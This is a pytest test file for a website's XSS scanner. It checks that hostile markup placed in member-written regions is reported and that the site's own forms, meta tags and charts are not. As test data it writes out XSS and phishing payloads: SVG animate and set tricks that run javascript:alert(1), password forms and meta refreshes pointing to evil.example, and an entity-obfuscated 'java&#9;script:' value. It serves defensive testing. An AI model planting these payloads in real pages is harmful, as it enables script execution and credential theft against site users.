"""The page scanner itself: what members wrote gets no exemption; the page's own chrome
(its forms, meta tags, charts) keeps its exemptions. A scanner that missed these would let
every page-level XSS test pass over a phishing form or an animated script link."""

import pytest

from tests.xss import executable_content

# What a member could try to slip into a page, if the sanitiser ever let it through.
HOSTILE_MARKUP = {
    "svg animating a link to script": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text y=20>click</text></a></svg>"
    ),
    "form posting elsewhere": (
        '<form action="//evil.example/login"><input name="password" type="password"></form>'
    ),
    "button posting to script": '<button formaction="javascript:alert(1)">Continue</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "textarea": "<textarea>Paste your recovery codes here</textarea>",
    "select": "<select><option>Your bank</option></select>",
    "math": '<math><maction actiontype="statusline">x</maction></math>',
}

# Where the site shows what members and editors wrote, one of each kind of region.
USER_REGIONS = {
    "comment body": '<div class="comment-text">{}</div>',
    "article body": '<div class="prose">{}</div>',
    "headline": '<p class="lede">{}</p>',
    "article title": "<h1>{}</h1>",
    "search result": '<article class="article-card"><p class="snippet">{}</p></article>',
    "skill name on the map": '<a class="skill-bar-label" href="/skills/x/">{}</a>',
    "admin changelist cell": '<table><tr><td class="field-excerpt">{}</td></tr></table>',
    "admin read-only field": '<div class="form-row"><div class="readonly">{}</div></div>',
    "discussion prompt": "<fieldset><legend>{}</legend></fieldset>",
}

PAGE = """<!doctype html><html><head><title>A page</title>{head}</head><body>
<header class="site-header"><form class="inline-form" method="post" action="/accounts/logout/">
<button type="submit">Sign out</button></form></header>
<main><div class="comments">{main}</div>
<form class="comment-form" method="post" action="/comments/on/1/"><textarea name="body"></textarea>
<select name="skills"><option>Writing</option></select><button type="submit">Post</button></form>
<svg class="bar-chart" viewBox="0 0 100 4"><rect class="bar" width="40" height="4"/></svg>
</main></body></html>"""


def page(main: str = "", head: str = "") -> str:
    return PAGE.format(main=main, head=head)


@pytest.mark.parametrize("region", USER_REGIONS.values(), ids=USER_REGIONS)
@pytest.mark.parametrize("markup", HOSTILE_MARKUP.values(), ids=HOSTILE_MARKUP)
def test_hostile_markup_inside_user_content_is_reported(region, markup):
    problems = executable_content(page(region.format(markup)), whole_page=True)
    assert any("in user content" in problem for problem in problems), problems


@pytest.mark.parametrize("region", USER_REGIONS.values(), ids=USER_REGIONS)
def test_a_page_whose_user_content_is_plain_is_clean(region):
    text = 'What I learned: <a href="https://example.com" rel="nofollow">a link</a> &lt;svg&gt;'
    assert executable_content(page(region.format(text)), whole_page=True) == []


def test_the_pages_own_forms_meta_tags_and_charts_are_not_reported():
    head = '<meta name="robots" content="noindex"><link rel="stylesheet" href="/static/site.css">'
    assert executable_content(page(head=head), whole_page=True) == []


def test_user_content_ends_where_its_element_ends():
    # Nested elements of the region's own kind do not end it early…
    nested = '<div class="prose"><div><div></div></div><select></select></div>'
    assert executable_content(page(nested), whole_page=True) == ["<select> element in user content"]
    # …and what follows the region is the page's own again.
    after = '<div class="prose"><div>text</div></div><form action="/search/"></form>'
    assert executable_content(page(after), whole_page=True) == []


def test_the_articles_disabled_task_list_checkboxes_are_allowed():
    task_list = '<div class="prose"><ul><li><input type="checkbox" disabled> done</li></ul></div>'
    assert executable_content(page(task_list), whole_page=True) == []
    live_input = '<div class="prose"><input type="password" name="password"></div>'
    assert executable_content(page(live_input), whole_page=True)


@pytest.mark.parametrize(
    "chrome",
    [
        '<form action="https://evil.example/collect" method="post"></form>',
        '<form action="\t//evil.example/"></form>',
        '<button formaction="//evil.example/" form="x">Go</button>',
        '<meta http-equiv="Refresh" content="0;url=//evil.example/">',
        '<svg class="bar-chart"><set attributeName="href" to="javascript:alert(1)"/></svg>',
    ],
    ids=["form off site", "form protocol-relative", "formaction off site", "refresh", "svg set"],
)
def test_the_chrome_never_posts_elsewhere_refreshes_or_animates(chrome):
    """Outside user content too: the site's own forms post to the site, and its SVG is still.
    Markup that broke out of its region would land here."""
    assert executable_content(page(chrome), whole_page=True)


def test_animation_values_are_checked_step_by_step():
    markup = '<svg><animate attributeName="href" values="#a;https://x.example/;java&#9;script:alert(1)"/></svg>'
    assert any("values=" in problem for problem in executable_content(markup))
